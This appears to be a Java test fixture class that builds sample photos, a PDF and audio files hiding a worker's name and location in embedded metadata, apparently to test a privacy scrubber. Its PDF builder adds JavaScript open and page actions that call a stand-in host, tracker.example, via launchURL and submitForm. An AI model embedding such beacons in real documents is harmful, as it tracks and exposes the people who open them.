package org.jornada.testing;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.graphics.image.JPEGFactory;
import org.apache.pdfbox.pdmodel.graphics.image.PDImageXObject;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;

/**
 * Files that hide a worker's place or device where a simple tag remover does not look, made in
 * the test the way phones and apps make them: a phone photo with a second photo after its end
 * marker, a PDF that embeds a phone photo and carries JavaScript and an attached file, an M4A
 * voice note with iPhone's location key and a {@code ©xyz} atom, an MP3 with ID3v2, APE and ID3v1
 * tags, and an Ogg Opus voice note whose comment header names a place.
 */
public final class HostileFiles {

    /** The position phones write: Mexico City's Zócalo. */
    public static final String LOCATION = "+19.4326-099.1332/";
    public static final String PERSON = "Juan Perez Trabajador";

    private HostileFiles() {
    }

    /** The real phone photos of the project's fixtures (GPS, camera, capture date in each). */
    public static List<Path> phonePhotos() {
        try (Stream<Path> list = Files.list(Path.of("src", "test", "resources", "fixtures", "photos"))) {
            return list.filter(p -> p.toString().endsWith(".jpg")).sorted().toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] read(Path path) {
        try {
            return Files.readAllBytes(path);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] concat(byte[] a, byte[] b) {
        byte[] out = new byte[a.length + b.length];
        System.arraycopy(a, 0, out, 0, a.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }

    /** A PDF with the photo as its page, an open action and page action in JavaScript, an attached file. */
    public static byte[] pdfEmbeddingPhoto(byte[] jpeg) {
        try (PDDocument document = new PDDocument()) {
            PDPage page = new PDPage();
            document.addPage(page);
            PDImageXObject image = JPEGFactory.createFromByteArray(document, jpeg);
            try (PDPageContentStream content = new PDPageContentStream(document, page)) {
                content.drawImage(image, 20, 20, 200, 150);
            }
            PDActionJavaScript js = new PDActionJavaScript("app.launchURL('https://tracker.example/?id=1');");
            document.getDocumentCatalog().setOpenAction(js);
            PDPageAdditionalActions pageActions = new PDPageAdditionalActions();
            pageActions.setO(new PDActionJavaScript("this.submitForm('https://tracker.example/');"));
            page.setActions(pageActions);
            PDEmbeddedFile attached = new PDEmbeddedFile(document,
                    new java.io.ByteArrayInputStream(("worker: " + PERSON).getBytes(StandardCharsets.UTF_8)));
            PDComplexFileSpecification spec = new PDComplexFileSpecification();
            spec.setFile("who.txt");
            spec.setEmbeddedFile(attached);
            PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
            files.setNames(java.util.Map.of("who.txt", spec));
            PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
            scripts.setNames(java.util.Map.of("run", js));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(files);
            names.setJavascript(scripts);
            document.getDocumentCatalog().setNames(names);
            document.getDocumentCatalog().getCOSObject().setItem(COSName.getPDFName("Lang"), COSName.getPDFName("es"));
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            document.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** One MPEG-1 layer III frame, 128 kbit/s, 44.1 kHz, no padding: 417 bytes. */
    public static byte[] mp3Frame(int fill) {
        byte[] frame = new byte[417];
        frame[0] = (byte) 0xFF;
        frame[1] = (byte) 0xFB;
        frame[2] = (byte) 0x90;
        frame[3] = 0x64;
        for (int i = 4; i < frame.length; i++) {
            frame[i] = (byte) (fill + i);
        }
        return frame;
    }

    /** An MP3 with an ID3v2 tag at the start, 40 frames, an APE tag and an ID3v1 tag at the end. */
    public static byte[] mp3WithId3AndApe() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] tagBody = ("TPE1" + "\0\0\0\u0016" + "\0\0" + "\0" + PERSON).getBytes(StandardCharsets.ISO_8859_1);
        out.writeBytes(new byte[] {'I', 'D', '3', 3, 0, 0, 0, 0, 0, (byte) tagBody.length});
        out.writeBytes(tagBody);
        for (int i = 0; i < 40; i++) {
            out.writeBytes(mp3Frame(i));
        }
        out.writeBytes(apeTag("Artist", PERSON, "Location", LOCATION));
        ByteBuffer id3v1 = ByteBuffer.allocate(128);
        id3v1.put("TAG".getBytes(StandardCharsets.ISO_8859_1)).put("nota".getBytes(StandardCharsets.ISO_8859_1));
        id3v1.position(33).put(PERSON.getBytes(StandardCharsets.ISO_8859_1), 0, 21);
        out.writeBytes(id3v1.array());
        return out.toByteArray();
    }

    /** An APEv2 tag with header and footer (the layout of apetag.c and foobar2000). */
    private static byte[] apeTag(String... keyValues) {
        ByteArrayOutputStream items = new ByteArrayOutputStream();
        for (int i = 0; i < keyValues.length; i += 2) {
            byte[] value = keyValues[i + 1].getBytes(StandardCharsets.UTF_8);
            ByteBuffer head = ByteBuffer.allocate(8).order(ByteOrder.LITTLE_ENDIAN).putInt(value.length).putInt(0);
            items.writeBytes(head.array());
            items.writeBytes(keyValues[i].getBytes(StandardCharsets.US_ASCII));
            items.write(0);
            items.writeBytes(value);
        }
        byte[] body = items.toByteArray();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(apeHeader(body.length + 32, keyValues.length / 2, 0xA0000000));
        out.writeBytes(body);
        out.writeBytes(apeHeader(body.length + 32, keyValues.length / 2, 0x80000000));
        return out.toByteArray();
    }

    private static byte[] apeHeader(int size, int count, int flags) {
        return ByteBuffer.allocate(32).order(ByteOrder.LITTLE_ENDIAN).put("APETAGEX".getBytes(StandardCharsets.US_ASCII))
                .putInt(2000).putInt(size).putInt(count).putInt(flags).putLong(0).array();
    }

    /** The audio bytes of {@link #m4aWithLocation()}: what must still be found where stco points. */
    public static final byte[] M4A_AUDIO = "AUDIO-CHUNK-ONE|AUDIO-CHUNK-TWO|".getBytes(StandardCharsets.US_ASCII);

    /**
     * An M4A laid out as iPhone's Voice Memos does: {@code ftyp}, then {@code moov} (so the chunk
     * offsets point past it) with a {@code meta} box holding the
     * {@code com.apple.quicktime.location.ISO6709} key and a {@code udta/©xyz} atom, then
     * {@code mdat} with two chunks.
     */
    public static byte[] m4aWithLocation() {
        byte[] ftyp = box("ftyp", concatAll("M4A ".getBytes(StandardCharsets.US_ASCII), new byte[] {0, 0, 2, 0},
                "M4A isomiso2".getBytes(StandardCharsets.US_ASCII)));
        byte[] mvhd = box("mvhd", ByteBuffer.allocate(100).putInt(0).putInt((int) (2_082_844_800L + 1_778_000_000L))
                .array());
        byte[] xyz = box("\u00A9xyz", concatAll(new byte[] {0, 18, 0x15, (byte) 0xC7},
                LOCATION.getBytes(StandardCharsets.US_ASCII)));
        byte[] udta = box("udta", xyz);
        String key = "com.apple.quicktime.location.ISO6709";
        byte[] keys = box("keys", concatAll(new byte[] {0, 0, 0, 0, 0, 0, 0, 1},
                ByteBuffer.allocate(8).putInt(8 + key.length()).put("mdta".getBytes(StandardCharsets.US_ASCII)).array(),
                key.getBytes(StandardCharsets.US_ASCII)));
        byte[] ilst = box("ilst", box("\0\0\0\1", box("data", concatAll(new byte[] {0, 0, 0, 1, 0, 0, 0, 0},
                LOCATION.getBytes(StandardCharsets.US_ASCII)))));
        byte[] meta = box("meta", concatAll(new byte[4], box("hdlr", new byte[24]), keys, ilst));
        // placeholder offsets, fixed once the size of everything before mdat is known
        int[] chunkOffsets = {0, 16};
        byte[] moov = moov(mvhd, meta, udta, chunkOffsets, 0);
        int mdatStart = ftyp.length + moov.length;
        moov = moov(mvhd, meta, udta, chunkOffsets, mdatStart + 8);
        byte[] mdat = box("mdat", M4A_AUDIO);
        return concatAll(ftyp, moov, mdat);
    }

    private static byte[] moov(byte[] mvhd, byte[] meta, byte[] udta, int[] offsets, int base) {
        ByteBuffer stco = ByteBuffer.allocate(8 + 4 * offsets.length).putInt(0).putInt(offsets.length);
        for (int offset : offsets) {
            stco.putInt(base + offset);
        }
        byte[] stbl = box("stbl", concatAll(box("stsd", new byte[8]), box("stco", stco.array())));
        byte[] trak = box("trak", concatAll(box("tkhd", new byte[84]),
                box("mdia", concatAll(box("mdhd", new byte[24]), box("minf", stbl))), box("udta", box("name",
                        PERSON.getBytes(StandardCharsets.US_ASCII)))));
        return box("moov", concatAll(mvhd, trak, meta, udta));
    }

    public static byte[] box(String type, byte[] body) {
        return ByteBuffer.allocate(8 + body.length).putInt(8 + body.length)
                .put(type.getBytes(StandardCharsets.ISO_8859_1)).put(body).array();
    }

    public static byte[] concatAll(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    /** The audio packet of {@link #oggOpusWithTags()}. */
    public static final byte[] OPUS_AUDIO = "opus-audio-packet-bytes".getBytes(StandardCharsets.US_ASCII);

    /** An Ogg Opus voice note: OpusHead, OpusTags with an encoder, an artist and a location, one audio page. */
    public static byte[] oggOpusWithTags() {
        byte[] head = ByteBuffer.allocate(19).order(ByteOrder.LITTLE_ENDIAN).put("OpusHead".getBytes(StandardCharsets.US_ASCII))
                .put((byte) 1).put((byte) 1).putShort((short) 312).putInt(48000).putShort((short) 0).put((byte) 0)
                .array();
        String[] comments = {"ARTIST=" + PERSON, "LOCATION=" + LOCATION, "ENCODER=WhatsApp Android"};
        ByteArrayOutputStream tags = new ByteArrayOutputStream();
        tags.writeBytes("OpusTags".getBytes(StandardCharsets.US_ASCII));
        byte[] vendor = "libopus 1.3 (Samsung SM-A105M)".getBytes(StandardCharsets.UTF_8);
        tags.writeBytes(le(vendor.length));
        tags.writeBytes(vendor);
        tags.writeBytes(le(comments.length));
        for (String comment : comments) {
            byte[] c = comment.getBytes(StandardCharsets.UTF_8);
            tags.writeBytes(le(c.length));
            tags.writeBytes(c);
        }
        return concatAll(oggPage(2, 0, 0, head), oggPage(0, 0, 1, tags.toByteArray()),
                oggPage(4, 960, 2, OPUS_AUDIO));
    }

    private static byte[] le(int value) {
        return ByteBuffer.allocate(4).order(ByteOrder.LITTLE_ENDIAN).putInt(value).array();
    }

    /** One Ogg page holding one packet (under 255 bytes), with its checksum. */
    public static byte[] oggPage(int flags, long granule, int sequence, byte[] packet) {
        ByteBuffer page = ByteBuffer.allocate(28 + packet.length).order(ByteOrder.LITTLE_ENDIAN);
        page.put("OggS".getBytes(StandardCharsets.US_ASCII)).put((byte) 0).put((byte) flags).putLong(granule)
                .putInt(0x4a4f524e).putInt(sequence).putInt(0).put((byte) 1).put((byte) packet.length).put(packet);
        byte[] bytes = page.array();
        ByteBuffer.wrap(bytes).order(ByteOrder.LITTLE_ENDIAN).putInt(22, oggCrc(bytes));
        return bytes;
    }

    /** Ogg's CRC-32 (polynomial 0x04C11DB7, not reflected), written here apart from the product's. */
    public static int oggCrc(byte[] page) {
        int crc = 0;
        for (byte value : page) {
            crc ^= (value & 0xff) << 24;
            for (int k = 0; k < 8; k++) {
                crc = (crc & 0x80000000) != 0 ? (crc << 1) ^ 0x04C11DB7 : crc << 1;
            }
        }
        return crc;
    }
}
